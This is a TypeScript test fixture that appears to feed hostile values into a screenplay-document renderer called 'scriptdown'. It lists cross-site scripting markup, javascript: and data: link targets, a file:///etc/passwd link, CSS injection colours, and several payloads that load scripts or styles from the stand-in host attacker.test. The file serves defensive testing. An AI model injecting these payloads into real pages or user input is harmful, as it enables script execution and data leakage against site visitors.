import type { Document, Mark } from 'scriptdown'

/** A value that tries to make something happen where it is shown; each opens a dialog or sends a request if it can. */
export interface Attack {
  readonly name: string
  readonly value: string
}

const list = (attacks: Readonly<Record<string, string>>): readonly Attack[] =>
  Object.entries(attacks).map(([name, value]) => ({ name, value }))

/** Markup that wants to be parsed. */
export const texts: readonly Attack[] = list({
  'script element': '<script>alert(1)</script>',
  'script in mixed case': '<ScRiPt>alert(1)</sCrIpT>',
  'script without an end': '<script>alert(1)//',
  'script with a slash for a space': '<script/x>alert(1)</script/x>',
  'doubled brackets': '<<script>alert(1);//<</script>',
  'script from elsewhere': '<script src=//attacker.test/x.js></script>',
  'image that fails': '<img src=x onerror=alert(1)>',
  'image with a slash': '<img/src="x"/onerror="alert(1)">',
  'image with grave accents': '<img src=`x` onerror=`alert(1)`>',
  'image without an end': '<img src=x onerror=alert(1)//',
  'image set': '<img srcset="https://attacker.test/x.png 1x">',
  'malformed image': '<img """><script>alert(1)</script>">',
  'vector image': '<svg onload=alert(1)>',
  'script in a vector image': '<svg><script>alert&#40;1&#41;</script></svg>',
  'animated link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  'foreign style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'math across name spaces':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  'form across name spaces': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'frame with a document': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'frame with a script': '<iframe src="javascript:alert(1)"></iframe>',
  'frame elsewhere': '<iframe src=https://attacker.test/></iframe>',
  object: '<object data="javascript:alert(1)"></object>',
  embed: '<embed src="https://attacker.test/x.swf">',
  'body event': '<body onload=alert(1)>',
  'focus event': '<input autofocus onfocus=alert(1)>',
  'details event': '<details open ontoggle=alert(1)>',
  'video event': '<video><source onerror=alert(1)></video>',
  'marquee event': '<marquee onstart=alert(1)>',
  'event after a style': '<p style="animation:x" onanimationstart=alert(1)>',
  'end of the style element': '</style><script>alert(1)</script>',
  'end of the title element': '</title><script>alert(1)</script>',
  'end of a text area': '</textarea><script>alert(1)</script>',
  'end of the page': '</p></main></body></html><script>alert(1)</script>',
  'style element': '<style>@import "https://attacker.test/x.css";</style>',
  'style with a request': '<style>body{background:url(https://attacker.test/x.png)}</style>',
  'linked style': '<link rel=stylesheet href=https://attacker.test/x.css>',
  refresh: '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'refresh elsewhere': '<meta http-equiv="refresh" content="0; url=https://attacker.test/">',
  'policy of its own': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  base: '<base href="https://attacker.test/">',
  form: '<form action=javascript:alert(1)><button autofocus>go</button></form>',
  'button with an action': '<button formaction=javascript:alert(1)>go</button>',
  comment: '<!--><img src=x onerror=alert(1)>-->',
  'comment that ends badly': '<!--x--!><img src=x onerror=alert(1)>',
  'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'character data': '<![CDATA[<script>alert(1)</script>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?>',
  'no script': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  template: '<template><script>alert(1)</script></template>',
  'plain text': '<plaintext><script>alert(1)</script>',
  xmp: '<xmp><script>alert(1)</script></xmp>',
  'end of an attribute': '"><script>alert(1)</script>',
  'end of an attribute with one quote': "'><script>alert(1)</script>",
  'end of an attribute with an accent': '`><script>alert(1)</script>',
  'event from an attribute': '" autofocus onfocus="alert(1)" x="',
  'event from an unquoted attribute': 'x onmouseover=alert(1) y=',
  'references for brackets': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'numbers for brackets': '&#60;script&#62;alert(1)&#60;/script&#62;',
  'long numbers without an end': '&#0000060script&#0000062alert(1)',
  'NUL in a tag': '<scr\0ipt>alert(1)</scr\0ipt>',
  'lone surrogate before a tag': '\ud800<script>alert(1)</script>',
  'overlong separators': '<img\fsrc=x\fonerror=alert(1)>',
  'full-width brackets': '＜script＞alert(1)＜/script＞',
  'direction override': '\u202e<script>alert(1)</script>',
  'line separator': 'x\u2028</script><script>alert(1)</script>',
  'code block': '```\n</code></pre><script>alert(1)</script>\n```',
  'Markdown link': '[x](javascript:alert(1))',
  'Markdown link with a reference': '[x](java&#115;cript:alert(1))',
  'Markdown image': '![x](https://attacker.test/x.png)',
  'Markdown image with an event': '![x](x"onerror="alert(1))',
  'Markdown autolink': '<javascript:alert(1)>',
  'Markdown reference': '[x]\n\n[x]: javascript:alert(1)',
  'Markdown line that starts markup': '<div onclick=alert(1)>\n<script>alert(1)</script>\n</div>',
})

/** Targets that must not be linked to. */
export const links: readonly Attack[] = list({
  script: 'javascript:alert(1)',
  'script in mixed case': 'JaVaScRiPt:alert(1)',
  'script after white space': ' \t\n\u0001javascript:alert(1)',
  'script with a tab in it': 'java\tscript:alert(1)',
  'script with a line break in it': 'java\nscript:alert(1)',
  'script with a return in it': 'java\rscript:alert(1)',
  'script with NUL in it': 'java\0script:alert(1)',
  'script with a colon reference': 'javascript&colon;alert(1)',
  'script in numbers': '&#106;avascript:alert(1)',
  'script with a percent sign': 'javascript%3Aalert(1)',
  'script with a comment': 'javascript://attacker.test/%0aalert(1)',
  'script after an empty scheme': '://javascript:alert(1)',
  'older script': 'vbscript:msgbox(1)',
  'live script': 'livescript:alert(1)',
  'data page': 'data:text/html,<script>alert(1)</script>',
  'data page in base64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data image': 'data:image/svg+xml,<svg onload=alert(1)>',
  blob: 'blob:https://attacker.test/0',
  file: 'file:///etc/passwd',
  'view source': 'view-source:https://attacker.test/',
  'nested scheme': 'feed:javascript:alert(1)',
  archive: 'jar:javascript:alert(1)',
  'application scheme': 'ms-word:ofe|u|https://attacker.test/x.docx',
  'quote that ends the attribute': 'https://example.com/" onmouseover="alert(1)',
  'bracket that ends the tag': 'https://example.com/"><script>alert(1)</script>',
  'accent in a relative target': '`onmouseover=alert(1)',
  'Markdown that ends the destination': 'https://example.com/) <img src=x onerror=alert(1)> (',
  'Markdown that ends the brackets': 'https://example.com/> <img src=x onerror=alert(1)>',
})

/** Colours that are none. */
export const colors: readonly Attack[] = list({
  'second property': 'red; background: url(https://attacker.test/x.png)',
  'end of the attribute': 'red" onmouseover="alert(1)',
  'end of the tag': 'red"><script>alert(1)</script>',
  'end of the rule': 'red}body{background:url(https://attacker.test/x.png)}',
  request: 'url(https://attacker.test/x.png)',
  'image set': 'image-set("https://attacker.test/x.png" 1x)',
  expression: 'expression(alert(1))',
  behaviour: 'red;behavior:url(x.htc)',
  binding: 'red;-moz-binding:url(https://attacker.test/x.xml)',
  import: "@import 'https://attacker.test/x.css'",
  'escaped request': 'u\\72l(https://attacker.test/x.png)',
  comment: 'red/**/;/**/background:url(//attacker.test/x.png)',
  'script target': 'javascript:alert(1)',
  variable: 'var(--x, url(https://attacker.test/x.png))',
  attribute: 'attr(style)',
  'relative colour with a request': 'rgb(from url(https://attacker.test/x.png) r g b)',
  'very long': `rgb(${'1'.repeat(10_000)},0,0)`,
})

/** Names that mean something where names are looked up. */
const names = ['__proto__', 'constructor', 'toString', 'cookie', 'body', 'location', 'attributes', 'innerHTML', '']

const everywhere = [...texts, ...links, ...colors]

/** One paragraph for each place that a value can be in: text, alternates, kind, id, and the value of each mark type. */
export function hostileDocument({ value }: Attack): Document {
  const marks = ['link', 'text-color', 'highlight', 'bold', value].map(
    (type, index): Mark => ({ start: index, end: 30, type, value }),
  )
  const kinds = ['scene-heading', 'character', 'dialogue', 'action', 'page-break', 'title-page', 'act-start', value]
  return {
    object: 'document',
    paragraphs: [...kinds, ...names].map((kind) => ({
      object: 'script_paragraph',
      id: kind === 'character' ? 'location' : value,
      kind,
      text: value.padEnd(30, '.'),
      marks,
      alternates: [{ text: value, marks: [] }],
    })),
  }
}

/** Every attack, by what it is. */
export const attacks: readonly Attack[] = everywhere
